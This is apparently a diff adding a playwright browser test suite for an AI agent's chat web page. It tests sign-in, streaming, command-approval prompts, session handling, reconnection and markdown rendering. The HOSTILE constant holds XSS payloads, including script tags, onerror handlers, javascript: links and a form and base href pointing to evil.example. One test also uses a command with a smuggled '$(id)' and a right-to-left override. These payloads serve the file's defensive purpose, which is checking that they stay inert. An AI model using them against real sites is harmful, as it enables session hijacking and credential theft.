@@ -1,0 +1,358 @@
+"""The page in a real browser."""
+
+from __future__ import annotations
+
+import importlib.util
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from retinue.testing.replies import Fault, Reply, calls, says
+from retinue.wire.protocol import Scope
+from tests.gateway.conftest import Hall, open_hall, raw_socket
+
+HAS_DRIVER = importlib.util.find_spec("playwright") is not None
+if TYPE_CHECKING or HAS_DRIVER:
+    from playwright.async_api import Browser, expect
+
+    from tests.gateway.browser import CHROMIUM, PATIENCE_MS, Visitor, open_browser, serving_at, visiting
+
+    expect.set_options(timeout=PATIENCE_MS)
+else:
+    CHROMIUM = None
+
+pytestmark = [
+    pytest.mark.anyio,
+    pytest.mark.slow,
+    pytest.mark.skipif(
+        not HAS_DRIVER or CHROMIUM is None,
+        reason="there is no Chromium or no playwright here; `make system` and `make setup` install them",
+    ),
+]
+
+SENTENCE = "The quick brown fox jumps over the lazy dog."
+
+HOSTILE = r"""
+<script>window.hacked = 1; alert(1)</script>
+<img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"><script>alert(2)</script></svg>
+<iframe src="javascript:alert(3)"></iframe><style>body { display: none }</style><base href="//evil.example">
+<form action="https://evil.example"><input name=token><button>Allow once</button></form>
+<a href="javascript:alert(4)">a</a> <div style="position:fixed;inset:0">over everything</div>
+[click](javascript:window.hacked=1) [click](data:text/html,<script>alert(5)</script>) [click](vbscript:x)
+[click]( java	script:alert(6)) [click](&#106;avascript:alert(7)) [click](JaVaScRiPt:alert(8)) [x](//evil.example/p)
+![picture](https://evil.example/pixel.png) ![picture](javascript:alert(9)) <https://evil.example/auto>
+[good](https://good.example/path?q=1 "title") [mail](mailto:me@good.example) https://bare.example/x.
+`</code><script>alert(10)</script>` **<b onclick=alert(11)>bold</b>**
+
+```html"><script>alert(12)</script>
+</code></pre><script>window.hacked = 1</script>
+```
+
+| <img src=x onerror=alert(13)> | [x](javascript:alert(14)) |
+|---|---|
+| <script>alert(15)</script> | b |
+
+<div class="approval" id="approvals"><h2>Run a command</h2><button class="allow-once">Allow once</button></div>
+\u202Egnp.exe and {{constructor.constructor('alert(16)')()}} and ${alert(17)}
+""".replace(r"\u202E", "\u202e")
+
+
+@pytest.fixture(scope="module")
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+@pytest.fixture(scope="module")
+async def browser(anyio_backend: str) -> AsyncIterator[Browser]:
+    async with open_browser() as opened:
+        yield opened
+
+
+@pytest.fixture
+async def visitor(browser: Browser, hall: Hall) -> AsyncIterator[Visitor]:
+    """Somebody with the page open, whose browser has nothing to complain about in the end."""
+    async with visiting(browser, hall) as found:
+        yield found
+        assert found.complaints == []
+
+
+async def test_a_code_signs_in_once_and_the_token_is_in_no_address(visitor: Visitor, hall: Hall) -> None:
+    page = visitor.page
+    await page.get_by_label("Code, token or password").fill("AAAA-BBBB")
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_role("alert").filter(has_text="code is not valid")).to_be_visible()
+    token = await visitor.sign_in()
+    await page.reload()
+    await page.locator("#sessions button").first.wait_for()
+    await expect(page.locator("#door")).to_be_hidden()
+    await visitor.say("hi")
+    await visitor.sees("Hello.")
+    assert page.url == f"{hall.url}/"
+    assert await page.evaluate("history.length") <= 2
+    assert await page.evaluate("document.cookie") == ""
+    assert not [url for url in visitor.requested if token in url or "?" in url]
+    await page.get_by_role("button", name="Sign out").click()
+    await expect(page.locator("#door")).to_be_visible()
+    assert await page.evaluate("localStorage.length") == 0
+    assert token not in await page.content()
+
+
+async def test_a_revoked_sign_in_leads_back_to_the_door(visitor: Visitor, hall: Hall) -> None:
+    token = await visitor.sign_in()
+    with hall.book() as book:
+        book.revoke(token.split("_")[1])
+    await expect(visitor.page.get_by_role("alert")).to_contain_text("revoked")
+
+
+async def test_answers_are_streamed_and_survive_a_reload_in_the_middle(visitor: Visitor, hall: Hall) -> None:
+    hall.model.push(Reply(text=f"# Title\n\n{SENTENCE} **Then", fault=Fault.HANG))
+    await visitor.sign_in()
+    await visitor.say("tell me")
+    await visitor.sees(SENTENCE)
+    await expect(visitor.page.get_by_role("button", name="Stop")).to_be_visible()
+    await visitor.page.reload()
+    await visitor.sees(f"{SENTENCE} **Then")
+    await expect(visitor.articles).to_have_count(2)
+    await expect(visitor.log.get_by_role("heading", name="Title")).to_have_count(1)
+    await visitor.page.locator("#message").focus()
+    await visitor.page.keyboard.press("Escape")
+    await visitor.sees("Stopped.")
+    await expect(visitor.page.get_by_role("button", name="Stop")).to_be_hidden()
+
+
+async def test_a_tool_call_is_folded_and_the_agent_has_its_name(visitor: Visitor, hall: Hall) -> None:
+    identity = hall.home.workspace / "IDENTITY.md"
+    identity.parent.mkdir(parents=True, exist_ok=True)
+    identity.write_text("- **Name:** Fennel <b>\n- **Emoji:** 🦊\n")
+    (hall.home.workspace / "note.txt").write_text("<i>inside</i> the file\n")
+    hall.model.push(calls("read", path="note.txt"), says("It says *inside*."))
+    await visitor.sign_in()
+    await expect(visitor.page.locator("#name")).to_have_text("Fennel <b>")
+    await expect(visitor.page.locator("#emoji")).to_have_text("🦊")
+    await visitor.say("read it")
+    await visitor.sees("It says inside.")
+    fold = visitor.fold("read")
+    await expect(fold.locator("summary")).to_contain_text("note.txt")
+    await expect(fold.get_by_text("inside")).to_have_count(0)
+    await fold.locator("summary").focus()
+    await visitor.page.keyboard.press("Enter")
+    await expect(fold.get_by_role("group", name="Arguments")).to_have_text('{\n  "path": "note.txt"\n}')
+    await expect(fold.get_by_role("group", name="Result")).to_contain_text("<i>inside</i> the file")
+    await visitor.page.reload()
+    await visitor.fold("read").locator("summary").click()
+    await expect(visitor.fold("read").get_by_role("group", name="Result")).to_contain_text("<i>inside</i> the file")
+
+
+@pytest.mark.parametrize(("button", "happens"), [("Allow once", True), ("Always allow", True), ("Deny", False)])
+async def test_a_question_shows_exactly_what_would_be_done(
+    visitor: Visitor, hall: Hall, button: str, happens: bool
+) -> None:
+    hall.model.push(calls("exec", command="touch asked.txt"), says("So be it."))
+    await visitor.sign_in()
+    await visitor.say("make a file")
+    await expect(visitor.approval.get_by_role("group", name="Exactly what would be done")).to_contain_text(
+        "touch asked.txt"
+    )
+    await expect(visitor.fold("exec").locator("summary")).to_contain_text("waits for an answer")
+    assert not (hall.home.workspace / "asked.txt").exists()
+    await visitor.approval.get_by_role("button", name=button).click()
+    await visitor.sees("So be it.")
+    await expect(visitor.page.locator("#approvals")).to_be_hidden()
+    assert (hall.home.workspace / "asked.txt").exists() is happens
+    if button == "Always allow":
+        hall.model.push(calls("exec", command="touch asked.txt"), says("Without asking."))
+        await visitor.say("again")
+        await visitor.sees("Without asking.")
+
+
+async def test_what_cannot_be_seen_is_made_visible_in_a_question_and_it_cannot_be_allowed_for_good(
+    visitor: Visitor, hall: Hall
+) -> None:
+    hall.model.push(calls("exec", command="echo $(id) \u202egnp"), says("No?"))
+    await visitor.sign_in()
+    await visitor.say("go")
+    await expect(visitor.approval).to_contain_text("echo $(id)")
+    assert "\u202e" not in await visitor.approval.inner_text()
+    await expect(visitor.approval).to_contain_text("202E")
+    await expect(visitor.approval.get_by_role("button", name="Always allow")).to_have_count(0)
+    await visitor.approval.get_by_role("button", name="Deny").click()
+    await visitor.sees("No?")
+
+
+async def test_conversations_are_begun_named_and_switched(visitor: Visitor, hall: Hall) -> None:
+    hall.model.push(says("First answer."), says("Second answer."))
+    await visitor.sign_in()
+    await visitor.say("in the main one")
+    await visitor.sees("First answer.")
+    await visitor.page.get_by_role("button", name="New conversation").first.click()
+    await expect(visitor.articles).to_have_count(0)
+    await visitor.say("about <b>dragons</b>")
+    await visitor.sees("Second answer.")
+    sessions = visitor.page.locator("#sessions button")
+    await expect(sessions.filter(has_text="about <b>dragons</b>")).to_have_attribute("aria-current", "true")
+    await sessions.filter(has_text="Main conversation").click()
+    await visitor.sees("First answer.")
+    await expect(visitor.log).not_to_contain_text("Second answer.")
+    await sessions.filter(has_text="dragons").click()
+    await visitor.sees("Second answer.")
+    await expect(visitor.log).not_to_contain_text("First answer.")
+
+
+async def test_commands_are_offered_and_a_new_session_clears_the_page(visitor: Visitor, hall: Hall) -> None:
+    await visitor.sign_in()
+    await visitor.say("hi")
+    await visitor.sees("Hello.")
+    await visitor.idle()
+    field = visitor.page.locator("#message")
+    await field.press_sequentially("/sta")
+    await expect(visitor.page.get_by_role("option", name="/status")).to_be_visible()
+    await visitor.page.keyboard.press("Tab")
+    await expect(field).to_have_value("/status ")
+    await visitor.page.keyboard.press("Enter")
+    await visitor.sees("test-model", visitor.log.locator(".note"))
+    await visitor.say("/new")
+    await expect(visitor.log).not_to_contain_text("Hello.")
+    await expect(visitor.log.locator(".note")).to_have_count(1)
+    assert len(hall.model.model_requests) == 1
+
+
+async def test_what_is_said_elsewhere_in_the_same_conversation_shows_up(visitor: Visitor, hall: Hall) -> None:
+    await visitor.sign_in()
+    async with raw_socket(hall) as raw:
+        await raw.result("agent", message="from the terminal", idempotencyKey="a")
+        await visitor.sees("Hello.")
+    await expect(visitor.articles).to_have_count(2)
+    await expect(visitor.articles.first).to_contain_text("from the terminal")
+
+
+async def test_a_sign_in_that_may_only_read_cannot_write(visitor: Visitor) -> None:
+    await visitor.sign_in(Scope.READ)
+    await expect(visitor.page.locator("#message")).to_be_disabled()
+
+
+async def test_the_page_comes_back_after_the_gateway_was_restarted(browser: Browser, tmp_path: Path) -> None:
+    async with open_hall(tmp_path) as hall:
+        hall.write_config()
+        async with serving_at(hall, 0):
+            port = int(hall.url.rpartition(":")[2])
+            opened = visiting(browser, hall)
+            visitor = await opened.__aenter__()
+            await visitor.sign_in()
+            hall.model.push(Reply(text="I was about to", fault=Fault.HANG))
+            await visitor.say("before")
+            await visitor.sees("I was about to")
+        try:
+            await expect(visitor.page.locator("#state")).to_contain_text("Trying again")
+            await visitor.say("while it was away")
+            await visitor.sees("Waits for the connection")
+            hall.model.push(says("Taken up again."), says("After the start."))
+            async with serving_at(hall, port):
+                await visitor.sees("After the start.")
+                await visitor.idle()
+                await expect(visitor.page.locator("#state")).to_be_empty()
+                asked = visitor.log.locator(".person")
+                await expect(asked).to_have_text(["Youbefore", "Youwhile it was away"])
+                await expect(visitor.log.get_by_text("Taken up again.")).to_have_count(1)
+                await expect(visitor.log).not_to_contain_text("Waits for the connection")
+                texts = [request.body.decode().count("while it was away") for request in hall.model.model_requests]
+                assert texts.count(1) == 1
+        finally:
+            await opened.__aexit__(None, None, None)
+
+
+async def test_hostile_content_is_inert(visitor: Visitor, hall: Hall) -> None:
+    (hall.home.workspace).mkdir(parents=True, exist_ok=True)
+    (hall.home.workspace / "evil.txt").write_text(HOSTILE)
+    (hall.home.workspace / "IDENTITY.md").write_text("- **Name:** <img src=x onerror=alert(18)>\n")
+    hall.model.push(calls("read", path="evil.txt"), says(HOSTILE + "x" * 20_000))
+    await visitor.sign_in()
+    await visitor.page.evaluate(
+        "document.addEventListener('securitypolicyviolation', event => console.error(event.violatedDirective))"
+    )
+    await visitor.say(HOSTILE)
+    await visitor.sees("over everything", visitor.page.locator("#log .agent .prose"))
+    await visitor.fold("read").locator("summary").click()
+    async with raw_socket(hall) as raw:
+        await raw.result("sessions.patch", label="<img src=x onerror=alert(19)>\u202e")
+    await expect(visitor.page.locator("#sessions")).to_contain_text("<img src=x onerror=alert(19)>")
+    for _ in range(2):  # as it came, and as history tells it
+        await visitor.idle()
+        assert await visitor.page.evaluate("window.hacked") is None
+        made = await visitor.log.evaluate("log => [...new Set([...log.querySelectorAll('*')].map(e => e.localName))]")
+        assert not set(made) & {"script", "img", "svg", "iframe", "style", "base", "form", "input", "button", "object"}
+        names = await visitor.log.evaluate("log => [...log.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
+        assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcdoc", "action")]
+        links = await visitor.log.evaluate("log => [...log.querySelectorAll('a')].map(a => [a.href, a.rel, a.target])")
+        safe = {"https://good.example/path?q=1", "mailto:me@good.example", "https://bare.example/x"}
+        only_to_click = {"https://evil.example/", "https://evil.example/pixel.png", "https://evil.example/auto"}
+        assert {link[0] for link in links} == safe | only_to_click
+        assert {tuple(link[1:]) for link in links} == {("noopener noreferrer", "_blank")}
+        await expect(visitor.page.locator("#approvals")).to_be_hidden()
+        await expect(visitor.page.get_by_role("button", name="Allow once")).to_have_count(0)
+        assert await visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+        await visitor.page.reload()
+        await visitor.sees("over everything", visitor.page.locator("#log .agent .prose"))
+    assert {url for url in visitor.requested if not url.startswith((hall.url, f"ws://{hall.host}"))} <= {"data:,"}
+
+
+async def test_a_page_elsewhere_cannot_frame_it(browser: Browser, hall: Hall) -> None:
+    async with visiting(browser, hall) as visitor:
+        await visitor.page.goto("about:blank")
+        blocked = visitor.page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:"))
+        async with blocked:
+            await visitor.page.set_content(f'<iframe id="frame" src="{hall.url}/"></iframe>')
+
+
+async def test_it_fits_a_phone_in_the_dark(browser: Browser, hall: Hall) -> None:
+    hall.model.push(says("| a | b |\n|---|---|\n" + f"| {'wide ' * 40} | {'x' * 300} |"))
+    async with visiting(browser, hall, viewport={"width": 360, "height": 640}, color_scheme="dark") as visitor:
+        await visitor.sign_in()
+        await visitor.say("show me a table")
+        await visitor.sees("wide wide")
+        assert await visitor.page.evaluate("document.documentElement.scrollWidth") == 360
+        assert await visitor.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 23, 21)"
+        await expect(visitor.page.locator("#side")).to_be_hidden()
+        await visitor.page.get_by_role("button", name="Conversations").click()
+        await expect(visitor.page.locator("#sessions button").first).to_be_focused()
+        await visitor.page.keyboard.press("Escape")
+        await expect(visitor.page.locator("#side")).to_be_hidden()
+
+
+MARKDOWN = {
+    "plain *em* **strong** ***both*** ~~gone~~": "<p>plain <em>em</em> <strong>strong</strong> "
+    "<em><strong>both</strong></em> <del>gone</del></p>",
+    "snake_case_name and 2 * 3 * 4": "<p>snake_case_name and 2 * 3 * 4</p>",
+    "a\nb\n\nc": "<p>a<br>b</p><p>c</p>",
+    "## Two ##\ntext": "<h4>Two</h4><p>text</p>",
+    "- a\n- b\n  - c\n\n1. x\n2. y": "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>x</li><li>y</li></ol>",
+    "3. x": '<ol start="3"><li>x</li></ol>',
+    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
+    "`a < b` and ``c ` d``": "<p><code>a &lt; b</code> and <code>c ` d</code></p>",
+    "\\*not\\* `open": "<p>*not* `open</p>",
+    "---": "<hr>",
+    "**open *half": "<p>**open *half</p>",
+    "[a](ftp://x.example) [b](relative)": "<p>[a](ftp://x.example) [b](relative)</p>",
+}
+
+SLOW_FOR_SOME = (
+    "*a " * 30_000,
+    "[" * 50_000,
+    "`" * 3 + "` `` " * 20_000,
+    "> " * 20_000,
+    "- " * 20_000,
+    "[a](" * 20_000,
+)
+
+
+async def test_markdown(visitor: Visitor) -> None:
+    script = """async (texts) => {
+        const { renderMarkdown } = await import("/page/markdown.js");
+        return texts.map((text) => renderMarkdown(text).map((block) => block.outerHTML).join(""));
+    }"""
+    rendered = await visitor.page.evaluate(script, list(MARKDOWN))
+    assert dict(zip(MARKDOWN, rendered, strict=True)) == MARKDOWN
+    assert len(await visitor.page.evaluate(script, list(SLOW_FOR_SOME))) == len(SLOW_FOR_SOME)
+    code = "```py\nprint('<b>')\n```"
+    assert "<code>print('&lt;b&gt;')</code></pre>" in (await visitor.page.evaluate(script, [code]))[0]
